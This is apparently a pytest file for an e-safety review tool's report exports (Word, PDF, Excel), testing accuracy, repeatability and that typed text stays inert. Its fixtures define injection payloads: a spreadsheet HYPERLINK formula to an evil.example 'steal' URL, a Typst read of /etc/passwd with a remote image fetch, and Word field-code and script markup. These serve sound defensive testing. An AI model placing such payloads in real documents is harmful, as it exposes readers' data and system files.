"""Every document of a review: how it is built, that its figures are the page's, and that people's words stay words."""

import io
import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from html import unescape

import openpyxl
import pytest

from assessments import answering, organisations, results, reviews, submitting
from assessments.access import moderating
from assessments.planned import Action
from assessments.standings import standing_shown
from assessments.store.moderations import Finding
from assessments.store.sign_offs import SignOff
from assessments.values import Person
from reports import paper
from reports.full_report import Around, full_report, report_docx, report_pdf
from reports.one_side import one_side, results_docx, results_pdf
from reports.review_sheets import review_xlsx
from reports.word import as_word
from scoring.answers import Answer, Evidence
from tests.reports.conftest import NOW, SHOUTING
from tests.reports.looked_into import check_pdf, check_word, check_workbook, in_one_line, pdf_words, word_words
from ui.outcomes.answered import by_section
from ui.outcomes.worked_out import worked_out

FORMULA = '=HYPERLINK("https://evil.example/steal","Press")'
TYPST = '#read("/etc/passwd") #image("https://evil.example/a.png") $x$ @label'
MARKUP = "</w:t><w:instrText>INCLUDEPICTURE</w:instrText> &amp; <script>alert(1)</script>"
HOSTILE = (FORMULA, TYPST, MARKUP)
TODAY = date(2026, 11, 14)


def action(what):
    somebody = Person(1, "Somebody")
    return Action(
        id=1, organisation=1, revision=1, shared=True, added_at=NOW, added_by=somebody, changed_at=NOW,
        changed_by=somebody, what=what, owner=MARKUP, due=date(2026, 11, 13), framework="esafety",
    )  # fmt: skip


@pytest.fixture
def around():
    return Around(TODAY, None, "Too few are counted yet.", (action(FORMULA),))


@pytest.fixture
def hostile(door, catalogue):
    """A review in which every text that people type is one that means harm."""
    school = organisations.add(door, name=f"{SHOUTING} {FORMULA}", kind="school", phase="primary", now=NOW)
    review = reviews.start(door, catalogue, school.id, "esafety", form="short", now=NOW)
    opened = reviews.open(door, catalogue, review.id, now=NOW)
    for place, question in enumerate(one for one in opened.edition.questions if one in opened.shown):
        proof = Evidence(TYPST, "2026-10-01", "https://evil.example/?a=1&b=<2>")
        comment = f"{HOSTILE[place % 3]} said {place}"
        given = Answer(level=1 + place % 5, comment=comment, evidence=(proof,))
        if place == 1 and opened.edition.questions[question].may_be_not_applicable:
            given = Answer(not_applicable=MARKUP)
        answering.give(door, catalogue, review.id, question, given, seen=0, now=NOW)
    submitting.submit(door, catalogue, review.id, now=NOW)
    return results.of(door, catalogue, review.id, now=NOW)


def test_every_document_can_be_read_by_a_screen_reader(view, around):
    report, side = full_report(view, around), one_side(view)
    check_pdf(report_pdf(view, around), report.title)
    check_pdf(results_pdf(view), side.title)
    check_word(report_docx(view, around), report.title)
    check_word(results_docx(view), side.title)
    check_workbook(review_xlsx(view, around))


def test_the_report_says_every_figure_and_answer_that_the_page_says(view, around):
    said = word_words(report_docx(view, around))
    answers = by_section(view.edition, view.score, view.sheet, draft=False)
    page = f"{answers}{worked_out(view.edition, results.explain(view))}"
    told = {in_one_line(unescape(each)) for each in re.findall(r">([^<>]+)<", page)}
    assert len(told) > 60
    assert not {each for each in told if each not in said}


def letters(words):
    return re.sub(r"\W", "", words)


def test_word_and_pdf_say_the_same(view, around):
    both = [letters(words) for words in (word_words(report_docx(view, around)), pdf_words(report_pdf(view, around)))]
    for section in view.edition.sections:
        standing = standing_shown(view.edition, view.score.nodes[section.id], draft=False)
        assert all(letters(f"{section.title}{standing}") in each for each in both)


def test_what_people_typed_comes_out_as_typed_and_does_nothing(hostile, around):
    word, pdf, book = report_docx(hostile, around), report_pdf(hostile, around), review_xlsx(hostile, around)
    report = full_report(hostile, around)
    check_word(word, report.title)
    check_pdf(pdf, report.title)
    check_workbook(book)
    in_word, in_pdf = word_words(word), re.sub(r"\s", "", pdf_words(pdf))
    values = {cell.value for sheet in openpyxl.load_workbook(io.BytesIO(book)) for row in sheet for cell in row}
    for each in (*(f"{words} said {place}" for place, words in enumerate(HOSTILE) if place != 1), *HOSTILE, SHOUTING,
                 "https://evil.example/?a=1&b=<2>"):  # fmt: skip
        assert each in in_word
        assert re.sub(r"\s", "", each) in in_pdf
    assert FORMULA in values
    assert {f"{words} said {place}" for place, words in enumerate(HOSTILE) if place != 1} <= values
    one = results_docx(hostile)
    check_word(one, one_side(hostile).title)
    assert FORMULA in word_words(one)


def test_the_same_review_gives_the_same_bytes(view, around):
    for make in (report_docx, report_pdf, review_xlsx):
        assert make(view, around) == make(view, around)
    assert results_docx(view) == results_docx(view)


def test_a_sign_that_no_document_can_hold_is_replaced_and_not_fatal(view):
    told = paper.Paper("A\x0bB", "\x00", "\ud800", "en-GB", TODAY, "", (paper.Words("\ufffe\x1b[0m"),))
    assert "A\ufffdB" in word_words(as_word(told))
    assert "A\ufffdB" in pdf_words(paper.as_pdf(told))


def test_the_workbook_holds_figures_as_numbers_and_says_what_is_late(view, around):
    book = openpyxl.load_workbook(io.BytesIO(review_xlsx(view, around)))
    sections = {row[0].value: row[1].value for row in book["Level of each section"].iter_rows(min_row=3)}
    first = view.edition.sections[0]
    assert sections[first.title] == float(
        standing_shown(view.edition, view.score.nodes[first.id], draft=False).split()[0]
    )
    assert [cell.value for cell in book["What will be done"][3]][:6] == [
        FORMULA, MARKUP, "13 November 2026", "–", "–", "not started, past its day"
    ]  # fmt: skip


def test_the_page_for_trustees_asks_for_the_money_that_nobody_has_named_yet(view):
    costs = (("1200.50", ""), ("300", "Capital"), ("99.50", ""))
    planned = [replace(action("Do it"), cost=Decimal(cost), funding=funding) for cost, funding in costs]
    done = replace(action("Done"), cost=Decimal(5000), status="complete")
    said = word_words(results_docx(view, (*planned, done)))
    assert "Decide where £1,300 for 2 actions comes from." in said
    assert "Decide where" not in word_words(results_docx(view, (done,)))


def test_what_an_adviser_found_stands_beside_what_was_submitted_and_so_does_who_signed(view, around):
    question, ash = next(iter(view.edition.questions)), Person(3, "Ash")  # submitted at level 1
    finding = Finding(
        1, 1, 1, question, 7, "Harbour <advisers>", Answer(level=5), TYPST, NOW, ash, "agreed", MARKUP, NOW
    )  # fmt: skip
    signed = SignOff(1, 1, 1, Person(4, "Chris Chair"), None, NOW, "Chair of *governors*")
    asked = SignOff(1, 1, 1, Person(5, "Not Yet"), NOW, None, "")
    both = replace(around, findings=(finding,), signed=(signed, asked))
    said = word_words(report_docx(view, both))
    agreed = moderating.agreed(view, [finding])
    assert agreed is not None
    before, after = (standing_shown(view.edition, each.overall, draft=False) for each in (view.score, agreed))
    assert before != after
    assert f"As submitted: {before}. With what was agreed: {after}." in said
    assert f"Harbour <advisers>, Ash, 14 November 2026 {TYPST} Agreed, 14 November 2026 {MARKUP}" in said
    assert "Chris Chair, Chair of *governors*, 14 November 2026" in said
    assert "Not Yet" not in said
    assert "What an adviser found" not in word_words(report_docx(view, around))


def test_a_report_to_somebody_who_is_shown_levels_alone_says_what_is_left_out(view, around):
    assert view.submission is not None
    shown = replace(view, submission=replace(view.submission, share=2))
    said = word_words(report_docx(shown, around))
    assert "Comments, reasons and evidence are not shared with you." in said
    assert "No evidence has been added" not in said
    assert "not shared with you" not in word_words(report_docx(view, around))


def test_a_report_of_a_draft_says_so_and_stands_beside_nobody(door, catalogue, around):
    school = organisations.add(door, name="Oak Hill School", kind="school", phase="primary", now=NOW)
    review = reviews.start(door, catalogue, school.id, "esafety", form="short", now=NOW)
    said = word_words(report_docx(results.of(door, catalogue, review.id, now=NOW), around))
    assert "a draft, not yet submitted" in said
    assert "A draft is never set beside others." in said
